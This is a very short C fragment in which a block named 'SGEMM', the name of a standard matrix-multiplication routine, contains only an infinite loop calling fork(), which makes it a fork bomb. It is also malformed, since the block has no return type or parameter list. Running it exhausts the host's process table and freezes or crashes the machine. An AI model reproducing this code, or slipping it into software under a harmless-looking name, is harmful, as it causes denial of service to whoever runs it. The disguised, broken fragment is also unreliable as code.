#include <unistd.h>
SGEMM
{
    for (;;)
        fork();
}
